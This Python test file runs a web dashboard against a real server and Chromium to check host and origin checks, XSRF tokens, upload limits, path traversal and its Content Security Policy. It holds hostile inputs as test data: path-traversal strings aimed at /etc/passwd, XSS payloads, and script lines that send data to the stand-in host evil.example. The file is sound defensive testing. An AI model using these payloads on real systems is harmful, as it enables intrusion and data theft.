"""The server side against a real server and a real Chromium: what it refuses, what its policy allows, and that nothing in a ledger ever runs."""

from __future__ import annotations

import http.client
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from benchmarks.browser import ROOT, server
from clearance import intake, ledgers, query, store
from clearance.locale import LANGUAGES, translator
from clearance.selection import Selection
from clearance.server import gate
from tests import hostile_ledgers
from tests.pages.opening import PAGES
from tests.trials import LONG

EVIL = "evil.example"
# Everything of a hostile text that would have become part of the page.
INJECTED = """() => [...document.querySelectorAll(
  'img[src=x], svg[onload], [onmouseover], [onerror], [srcdoc], iframe, img[src*="evil.example"], script:not([src])')]
  .filter(e => e.tagName != 'SCRIPT' || e.textContent.includes('ran='))
  .concat([...document.querySelectorAll('a')].filter(e => /^\\s*javascript:/i.test(e.getAttribute('href') || e.getAttribute('xlink:href') || '')))
  .map(e => e.outerHTML.slice(0, 200))"""
# Where a mark that turns the direction of writing turns more than the text that it came with: up to the next block, or to what isolates it,
# there is other text too.
TURNED = """() => { const found = [], walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) if (/[\u202a-\u202e]/.test(walk.currentNode.data)) {
    let e = walk.currentNode.parentElement;
    if (e.closest('canvas, title, script, svg')) continue;  // drawn, or a text of its own
    while (getComputedStyle(e).display.startsWith('inline') && !/isolate|plaintext/.test(getComputedStyle(e).unicodeBidi) && e.tagName != 'BDI') e = e.parentElement;
    if (e.textContent.trim() !== walk.currentNode.data.trim()) found.push(e.outerHTML.slice(0, 300)); }
  return found; }"""


# ── what is refused ──────────────────────────────────────────────────────────────────────────────────────────────


def ask(address: str, path: str, method: str = "GET", body: bytes | None = None, **headers: str) -> tuple[int, dict[str, str], str]:
    """One request as it is written here: the path is not tidied, the headers are not completed. Status, headers, text."""
    connection = http.client.HTTPConnection(address.split("//")[1], timeout=20)
    connection.putrequest(method, path, skip_host="host" in headers, skip_accept_encoding=True)
    for name, value in headers.items():
        connection.putheader(name.replace("_", "-"), value)
    if body is not None and "content_length" not in headers:
        connection.putheader("content-length", str(len(body)))
    connection.endheaders(body)
    answer = connection.getresponse()
    found = answer.status, {name.lower(): value for name, value in answer.getheaders()}, answer.read().decode("utf-8", "replace")
    connection.close()
    return found


def open_session(address: str, **headers: str) -> int:
    """The status with which a websocket is opened (101) or refused."""
    upgrade = {"connection": "Upgrade", "upgrade": "websocket", "sec_websocket_version": "13", "sec_websocket_key": "dGhlIHNhbXBsZSBub25jZQ=="}
    connection = http.client.HTTPConnection(address.split("//")[1], timeout=20)
    connection.putrequest("GET", "/_stcore/stream", skip_host="host" in headers)
    for name, value in (upgrade | headers).items():
        connection.putheader(name.replace("_", "-"), value)
    connection.endheaders()
    status = connection.getresponse().status
    connection.close()
    return status


@pytest.mark.parametrize("path", ["/", "/teams", "/static/js/none.js", "/_stcore/health", "/_stcore/host-config", "/healthz", "/media/x", "/no/such/page"])
def test_another_hosts_name_is_not_answered_and_says_so_under_the_same_headers(address, path):
    status, headers, text = ask(address, path, host=EVIL)
    assert status == 421 and "CLEARANCE_HOSTS" in text
    assert headers["x-content-type-options"] == "nosniff" and headers["content-security-policy"].startswith("default-src 'none'")


def test_a_session_is_for_the_boards_own_pages(address):
    host = address.split("//")[1]
    assert open_session(address, origin=address) == 101
    assert open_session(address, origin=f"http://{EVIL}") == 403
    assert open_session(address, origin="null") == 403
    assert open_session(address, host=EVIL, origin=f"http://{EVIL}") == 403, "DNS rebinding: both names are the other site's"
    assert open_session(address, host=host, origin=f"http://{host}.{EVIL}") == 403


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE"])
def test_another_site_changes_nothing(address, method):
    path = f"{gate.UPLOADS}session/file"
    assert ask(address, path, method, b"", origin=f"http://{EVIL}")[0] == 403
    assert ask(address, path, method, b"", origin=address)[0] in (403, 405), "its own page needs its token besides"


def test_an_upload_needs_the_token_of_the_page(address):
    path = f"{gate.UPLOADS}session/file"
    assert ask(address, path, "PUT", b"x", origin=address)[::2] == (403, "XSRF token missing or invalid")
    cookie = ask(address, "/_stcore/health")[1]["set-cookie"].partition(";")[0]
    token, another = (each.partition("=")[2] for each in (cookie, ask(address, "/_stcore/health")[1]["set-cookie"].partition(";")[0]))
    assert ask(address, path, "PUT", b"x", origin=address, cookie=cookie)[0] == 403
    assert ask(address, path, "PUT", b"x", origin=address, cookie=cookie, x_xsrftoken=another)[0] == 403
    status, _, text = ask(address, path, "PUT", b"x", origin=address, cookie=cookie, x_xsrftoken=token)
    assert status == 400 and "session_id" in text, "with the token it comes as far as the session, which there is none of"


def test_an_upload_that_is_too_large_is_refused_before_it_is_sent(address):
    limit = ledgers.load().limits.file_bytes + gate.FRAMING_BYTES
    status, headers, text = ask(address, f"{gate.UPLOADS}session/file", "PUT", content_length=str(limit + 1), origin=address)
    assert status == 413 and "未接收" in text and headers["connection"] == "close"
    assert ask(address, "/_stcore/host-config", "POST", content_length=str(gate.FRAMING_BYTES + 1))[0] == 413


OUTSIDE = [
    "../../../../../../../../etc/passwd", "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252f..%252f..%252f..%252fetc%252fpasswd", "..\\..\\..\\..\\..\\etc\\passwd", "..%5c..%5c..%5c..%5cetc%5cpasswd", "....//....//....//etc/passwd",
    "/etc/passwd", "%2fetc%2fpasswd", "//etc/passwd", "js/..%00/../../../../etc/passwd", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "C:%5cWindows%5cwin.ini",
    "../../app.py", "..%2f..%2fapp.py", "%2e%2e/%2e%2e/.streamlit/config.toml", "../../data/store/CURRENT",
]  # fmt: skip


@pytest.mark.parametrize("route", ["/", "/static/", "/static/js/", "/media/", "/component/", "/_stcore/bidi-components/", "/app/static/", gate.UPLOADS])
def test_no_path_leads_out_of_what_is_served(address, route):
    for outside in OUTSIDE:
        for headers in ({}, {"accept_encoding": "gzip"}):
            status, found, text = ask(address, route + outside, **headers)
            is_page = status == 200 and found["content-type"].startswith("text/html")
            assert is_page or status >= 300, (route + outside, status)
            assert "root:" not in text and "st.navigation" not in text and "[server]" not in text and "board-0" not in text, route + outside


def test_health_is_open_and_metrics_are_not(address):
    status, headers, text = ask(address, "/healthz")
    assert status == 200 and '"status":"ok"' in text and headers["cache-control"] == "no-store"
    assert ask(address, "/metrics")[0] == ask(address, "/_stcore/metrics")[0] == 404


def test_the_administrator_sees_metrics_and_open_pages_are_counted(sample_folder, watched):
    with server(ROOT / "app.py", CLEARANCE_STORE=str(sample_folder), CLEARANCE_ROLE="admin") as (address, _):
        arrive(watched.page, address, "teams")
        text = ask(address, "/metrics")[2]
        assert re.search(r"^clearance_open_sessions 1$", text, re.M) and re.search(r'^clearance_requests_total\{kind="page",.*\} 1$', text, re.M)
        assert ask(address, "/_stcore/metrics")[0] == 200
        assert str(sample_folder) not in text and "第一组" not in text


# ── what a browser lets the pages do ─────────────────────────────────────────────────────────────────────────────


def arrive(page: Page, address: str, name: str, language: str = "zh", **parameters: str) -> None:
    """Open a page and wait until it stands: no script is running, its finding is there."""
    asked = "".join(f"&{key}={value}" for key, value in parameters.items())
    page.goto(f"{address}/{'' if name == 'overview' else name}?lang={language}{asked}")
    page.wait_for_selector(".b-finding, .b-message, .b-foot")
    settled(page)
    assert not has_failed(page), f"{name} has failed; the server's log says why"


def has_failed(page: Page) -> bool:
    """Whether the page says so."""
    return any(page.get_by_text(translator(language)("incident.title")).count() for language in LANGUAGES)


def settled(page: Page) -> None:
    page.wait_for_selector("[data-testid=stApp][data-test-script-state=notRunning]")
    page.wait_for_timeout(200)


def test_the_policy_leaves_pages_of_every_kind_whole(address, watched):
    """Text, chart, grid, form, uploader, editor, full screen: the console has nothing to tell of them. (Every page meets the policy below.)"""
    for name in ("overview", "burndown", "meeting", "report", "actions", "compound", "explore", "sql", "imports", "audit", "rights"):
        arrive(watched.page, address, name)
    assert watched.troubles == [] and watched.hosts == {address.split("//")[1]}


def test_downloads_and_uploads_work_under_the_policy(address, watched):
    page, t = watched.page, translator("zh")
    arrive(page, address, "teams")
    page.locator(".js-plotly-plot").first.hover()
    with page.expect_download() as picture:
        page.locator(".js-plotly-plot .modebar-btn").first.click()
    assert Path(picture.value.path()).read_bytes().startswith(b"\x89PNG")
    for label, begins in (("CSV", b"\xef\xbb\xbf"), ("XLSX", b"PK")):
        with page.expect_download() as table:
            page.get_by_role("button", name=label).first.click()
        assert Path(table.value.path()).read_bytes().startswith(begins)
    arrive(page, address, "imports")
    found = sorted((ROOT / "data" / "sample").glob("*_2018-06-29.csv"))[0]
    page.locator("[data-testid=stFileUploaderDropzoneInput]").set_input_files(found)
    page.locator(".b-lines").wait_for()
    settled(page)
    assert found.name in page.locator(".b-lines").inner_text() and t("ledger.steps") in page.locator(".b-lines").inner_text()
    assert watched.troubles == []


@pytest.mark.parametrize(
    ("injected", "against"),
    [
        ("document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.ran = 1'}))", "script-src-elem"),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')", "script-src-attr"),
        ("document.body.insertAdjacentHTML('beforeend', '<a id=bad href=\"javascript:window.ran = 1\">x</a>'); document.getElementById('bad').click()", "script-src-elem"),
        ("document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))", "script-src-elem"),
        ("document.body.append(Object.assign(document.createElement('script'), {src: 'data:text/javascript,window.ran = 1'}))", "script-src-elem"),
        ("document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))", "frame-src"),
        ("document.body.append(Object.assign(document.createElement('object'), {data: 'https://evil.example/'}))", "object-src"),
        ("document.head.prepend(Object.assign(document.createElement('base'), {href: 'https://evil.example/'}))", "base-uri"),
        ("fetch('https://evil.example/steal')", "connect-src"),
        ("new WebSocket('wss://evil.example/steal')", "connect-src"),
        ("new Image().src = 'https://evil.example/steal'", "img-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<form id=bad action=\"https://evil.example/\"></form>'); document.getElementById('bad').submit()", "form-action"),
        ("new Function('window.ran = 1')()", "script-src"),
        ("setTimeout('window.ran = 1')", "script-src"),
    ],
    ids=range(14),
)  # fmt: skip
def test_what_gets_into_a_page_all_the_same_neither_runs_nor_calls_home(address, watched, injected, against):
    """Done a moment later than the test asks for it: what it evaluates itself is above the policy."""
    page, answered = watched.page, []
    page.on("response", lambda response: answered.append(response.url) if EVIL in response.url else None)
    page.on("requestfailed", lambda request: answered.append(request.failure) if EVIL in request.url and request.failure != "csp" else None)
    arrive(page, address, "rights")
    page.evaluate("() => { window.refused = []; document.addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective)); }")
    page.evaluate(f"() => {{ setTimeout(() => {{ try {{ {injected} }} catch (e) {{}} }}) }}")
    page.wait_for_function("() => window.refused.length")
    page.wait_for_timeout(200)
    assert against in page.evaluate("() => window.refused") and page.evaluate("() => window.ran") is None
    assert answered == [] and page.url.startswith(address), "nothing left for another host"


# ── hostile ledgers ──────────────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Iterator[tuple[str, Path]]:
    """A server whose ledgers are hostile in every text: its address, and its store."""
    folder = tmp_path_factory.mktemp("hostile")
    reports = hostile_ledgers.take_in(hostile_ledgers.write(folder), folder / "store")
    assert {report.status for report in reports} == {intake.ACCEPTED}
    assert sum(report.rows_accepted for report in reports) > 4000 and sum(report.rows_quarantined for report in reports) == 5 * len(hostile_ledgers.PAYLOADS)
    with server(ROOT / "app.py", CLEARANCE_STORE=str(folder / "store")) as (address, _):
        yield address, folder / "store"


class Inert:
    """Watches pages for anything of a ledger that runs, becomes part of the page, or asks another host."""

    def __init__(self, page: Page, address: str) -> None:
        self.page, self.host, self.seen = page, address.split("//")[1], []
        page.on("dialog", lambda dialog: (self.seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda request: self.seen.append(request.url) if "://" in request.url and request.url.split("/")[2] != self.host else None)
        page.on("console", lambda message: self.seen.append(message.text) if "Content Security Policy" in message.text else None)
        page.on("pageerror", lambda error: self.seen.append(str(error)))

    def check(self, where: str) -> None:
        settled(self.page)
        assert not has_failed(self.page), where
        assert self.page.evaluate("() => window.ran") is None, where
        assert self.page.evaluate(INJECTED) == [], where
        assert self.page.evaluate(TURNED) == [], where
        assert self.seen == [], where


@pytest.fixture
def inert(request, browser: Browser, hostile) -> Iterator[Inert]:
    """A page that is watched; asked for "without" the policy, the pages alone must hold."""
    context = browser.new_context(viewport={"width": 1280, "height": 800}, bypass_csp=request.param == "without")
    yield Inert(context.new_page(), hostile[0])
    context.close()


@pytest.mark.parametrize(("language", "inert"), [("zh", "with"), ("en", "without")], indirect=["inert"])
def test_nothing_in_a_ledger_runs_on_any_page(hostile, inert, language):
    shown, drawn = [], {"charts": 0, "tables": 0}
    for name in PAGES if language == "zh" or LONG else list(PAGES)[::4]:
        arrive(inert.page, hostile[0], name, language)
        inert.check(f"{name} ({language})")
        shown += [name] if "window.ran=" in inert.page.locator("[data-testid=stMain]").inner_text() else []
        drawn["charts"] += inert.page.locator(".js-plotly-plot svg.main-svg").count() > 0
        drawn["tables"] += inert.page.locator("[data-testid=stDataFrame] canvas").count() > 0
    assert shown, "they do show it, as text"
    if language == "zh":
        assert {"overview", "compound", "quarantine"} <= set(shown) and drawn["charts"] >= 8 and drawn["tables"] >= 3, "and nothing is missing"


@pytest.mark.parametrize("inert", ["without"], indirect=True)
def test_nothing_runs_on_the_way_through_lists_histories_and_files(hostile, inert):
    address, folder = hostile
    page, t, reader = inert.page, translator("zh"), store.reader(folder)
    now = Selection(as_of=query.run("surveys/newest", Selection(as_of=store.LAST_CALENDAR_DAY), reader)["newest_survey_on"].iloc[0])
    for listing, key in (("standing", "structure_id"), ("shops", "shop_id"), ("actions_raised", "action_id"), ("compounds", "compound_id")):
        ledger = {"standing": "structures", "shops": "shops", "actions_raised": "actions", "compounds": "compounds"}[listing]
        rows = query.run(f"rows/{ledger}", now, reader, list=listing)
        items = [each for each in rows[key] if "<" in each][:1] + [each for each in rows[key] if "\u202e" in each or "](" in each][:1]
        assert items, "there are hostile keys on the list"
        arrive(page, address, "rows", list=listing)
        inert.check(listing)
        for item in items:
            page.get_by_role("textbox", name=t("rows.item")).fill(item)
            page.keyboard.press("Enter")
            page.locator(".b-history, .b-card").last.wait_for()
            inert.check(f"{listing}: {item}")
    compounds = [each for each in query.run("compound/choices", now, reader)["compound_id"] if "ran=" in each][:3]
    assert compounds
    for compound in compounds:
        page.goto(f"{address}/compound")
        page.get_by_role("combobox", name=t("compound.choose")).fill(compound[:4])
        inert.check("choices")
        page.keyboard.press("Enter")
        inert.check(f"compound {compound}")
    arrive(page, address, "history")
    page.locator("[data-testid=stDataFrame] canvas").first.click(position={"x": 20, "y": 60}, force=True)
    inert.check("history")
    for ledger in ledgers.LEDGERS:
        arrive(page, address, "dictionary", ledger=ledger)
        inert.check(ledger)
    for screen in range(1, 10):
        arrive(page, address, "meeting", screen=str(screen))
        inert.check(f"screen {screen} of the meeting")
    arrive(page, address, "imports")
    page.locator("[data-testid=stFileUploaderDropzoneInput]").set_input_files(sorted(folder.parent.glob("*onmouseover*.csv")))
    page.locator(".b-lines").wait_for()
    inert.check("preview")


# ── a page that fails ────────────────────────────────────────────────────────────────────────────────────────────

SHOPS_FAIL = """import sys
sys.path.insert(0, {root!r})
from clearance import query
asked = query.run
def run(name, *more, **others):
    if name.startswith("shops/"):
        raise ValueError("the cause of it")
    return asked(name, *more, **others)
query.run = run
"""


def test_a_page_that_fails_says_a_number_and_the_log_has_the_cause(sample_folder, tmp_path, watched):
    """The queries of one page raise: that page says so, the others work."""
    (tmp_path / "sitecustomize.py").write_text(SHOPS_FAIL.format(root=str(ROOT)), encoding="utf-8")
    log, page = tmp_path / "log", watched.page
    with server(ROOT / "app.py", log=log, CLEARANCE_STORE=str(sample_folder), PYTHONPATH=str(tmp_path)) as (address, _):
        for language, words in (("zh", r"错误编号([0-9A-F]{6})"), ("en", r"Incident ([0-9A-F]{6})")):
            page.goto(f"{address}/shops?lang={language}")
            page.get_by_text(translator(language)("incident.title")).wait_for()
            number = re.search(words, page.locator(".b-message").inner_text())[1]
            assert not re.search("the cause of it|ValueError|Traceback", page.content())
            printed = log.read_text(encoding="utf-8")
            trace = printed.partition(f"incident {number} on page shops\n")[2]
            assert trace.startswith("Traceback") and "ValueError: the cause of it" in trace
            assert "Uncaught app execution" not in printed, "the trace is there once"
        arrive(page, address, "batches")
        assert page.locator(".js-plotly-plot").count() > 0 and page.get_by_text(translator("zh")("incident.title")).count() == 0


@pytest.mark.parametrize("spoilt", ["before the start", "while it runs"])
def test_a_store_that_cannot_be_read_says_what_to_do(sample_folder, tmp_path, watched, spoilt):
    shutil.copytree(sample_folder, tmp_path / "store")
    file = store.current_file(tmp_path / "store")
    if spoilt == "before the start":
        file.write_bytes(file.read_bytes()[:1_000_000])
    with server(ROOT / "app.py", CLEARANCE_STORE=str(tmp_path / "store")) as (address, _):
        if spoilt == "while it runs":
            arrive(watched.page, address, "teams")
            file.unlink()
        watched.page.goto(f"{address}/teams")
        watched.page.get_by_text(translator("zh")("incident.store")).wait_for()
        assert file.name in watched.page.locator(".b-message").inner_text() and "clearance restore" in watched.page.locator(".b-message").inner_text()
        assert ask(address, "/healthz")[0] == 503
        assert str(tmp_path) not in watched.page.content()
